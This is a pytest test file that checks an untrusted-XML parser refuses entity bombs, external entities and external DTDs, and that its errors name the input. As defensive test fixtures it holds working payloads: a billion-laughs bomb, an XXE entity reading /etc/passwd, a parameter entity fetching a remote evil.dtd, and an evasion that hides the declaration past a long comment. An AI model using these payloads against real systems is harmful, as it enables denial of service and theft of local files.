"""Untrusted XML: bombs, external entities and DTDs refused or never read; errors name the input."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
from lxml import etree

from doingoai._xml import parse_untrusted_xml
from doingoai.errors import CollectError, InputError

SOURCE = "uploads/from-partner.xml"

LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE doc [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
        for n in range(1, 10)
    )
    + "]>\n<doc>&lol9;</doc>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE doc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    "<doc>&secret;</doc>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE doc [<!ENTITY % remote SYSTEM '
    '"http://example.invalid/evil.dtd"> %remote;]>\n<doc>a</doc>'
)
# the declaration pushed past the bytes searched before parsing
LATE_DECLARATION = (
    '<?xml version="1.0"?>\n<!--' + "x" * 300_000 + "-->\n"
    '<!DOCTYPE doc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n<doc>&secret;</doc>'
)
VALID = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n'
    '<doc xml:lang="vi"><term>Bộ Ngoại giao</term><?tool note?><term>Sở Du lịch</term></doc>'
)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (LAUGHS.encode(), "refused: the file declares XML entities"),
        (
            LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
            "refused: the file declares XML entities",
        ),
        (EXTERNAL_ENTITY.encode(), "refused: the file declares XML entities"),
        (PARAMETER_ENTITY.encode(), "refused: the file declares XML entities"),
        (LATE_DECLARATION.encode(), r"declares XML entities \(secret\)"),
        (b"<doc><term>Hai</doc>", r"not well-formed XML \(.*line 1"),
        (b"", "not well-formed XML"),
        (b"   \n", "not well-formed XML"),
        ("Một câu, không phải XML".encode(), "not well-formed XML"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not well-formed XML"),
        (gzip.compress(VALID.encode()), "not well-formed XML"),
    ],
    ids=[
        "billion-laughs",
        "billion-laughs-utf16",
        "external-entity",
        "external-parameter-entity",
        "declaration-past-256k",
        "malformed",
        "empty",
        "blank",
        "plain-text",
        "png-image",
        "gzip-not-decompressed",
    ],
)
def test_refused_or_malformed_names_the_input(data: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message) as caught:
        parse_untrusted_xml(data, SOURCE)
    assert str(caught.value).startswith(f"{SOURCE}: ")
    assert caught.value.source == SOURCE
    assert "lollol" not in str(caught.value)
    # a broken document is told from a refused one by its cause
    broken = "not well-formed" in str(caught.value)
    assert isinstance(caught.value.__cause__, etree.XMLSyntaxError) is broken


def test_external_dtd_is_never_read(tmp_path: Path) -> None:
    """A DTD on disk declaring an entity and a default attribute: neither reaches the tree."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LEAKED"><!ATTLIST doc leaked CDATA "yes">', encoding="utf-8")
    plain = f'<!DOCTYPE doc SYSTEM "{dtd.as_uri()}"><doc>a</doc>'.encode()
    root = parse_untrusted_xml(plain, SOURCE)
    assert (root.tag, root.text, root.get("leaked")) == ("doc", "a", None)
    with_reference = f'<!DOCTYPE doc SYSTEM "{dtd.as_uri()}"><doc>a&secret;</doc>'.encode()
    with pytest.raises(InputError, match="refused: the file uses entity references") as caught:
        parse_untrusted_xml(with_reference, SOURCE)
    assert "LEAKED" not in str(caught.value)


def test_valid_document() -> None:
    root = parse_untrusted_xml(VALID.encode(), SOURCE)
    assert [t.text for t in root] == ["Bộ Ngoại giao", "Sở Du lịch"]  # no comment, no PI
    assert root.get("{http://www.w3.org/XML/1998/namespace}lang") == "vi"
    utf16 = VALID.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert [t.text for t in parse_untrusted_xml(utf16, SOURCE)] == ["Bộ Ngoại giao", "Sở Du lịch"]


@pytest.mark.parametrize(
    ("data", "what", "message"),
    [
        (EXTERNAL_ENTITY.encode(), "sitemap", "refused: the sitemap declares XML entities"),
        (b"<urlset><url>", "sitemap", "not well-formed XML"),
    ],
)
def test_the_callers_error_type(data: bytes, what: str, message: str) -> None:
    url = "https://thudo.example.vn/sitemap.xml"
    with pytest.raises(CollectError, match=message) as caught:
        parse_untrusted_xml(data, url, error=CollectError, what=what)
    assert str(caught.value).startswith(f"{url}: ")


@pytest.mark.parametrize(
    ("data", "texts"),
    [
        (b"<doc><t>a&b=c</t><t>d</t></doc>", ["a=c", "d"]),  # a bare '&' is dropped
        (b"<doc><t>one</t><t>tw", ["one", "tw"]),  # cut short
        (b"<doc><t>&nbsp;x</t></doc>", ["&nbsp;x"]),  # an unknown entity: kept as written
        (VALID.encode(), ["Bộ Ngoại giao", "Sở Du lịch"]),
    ],
    ids=["bare-ampersand", "truncated", "unknown-entity", "valid"],
)
def test_recover_reads_what_it_can(data: bytes, texts: list[str]) -> None:
    root = parse_untrusted_xml(data, SOURCE, recover=True)
    assert ["".join(t.itertext()) for t in root] == texts


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (LAUGHS.encode()[:-3], "declares XML entities"),
        (LATE_DECLARATION.encode()[:-3], r"declares XML entities \(secret\)"),
        (b"", "not well-formed XML"),
        (b"hello", "not well-formed XML"),
    ],
    ids=["bomb-cut-short", "late-declaration-cut-short", "empty", "no-element"],
)
def test_recover_still_refuses(data: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message):
        parse_untrusted_xml(data, SOURCE, recover=True)
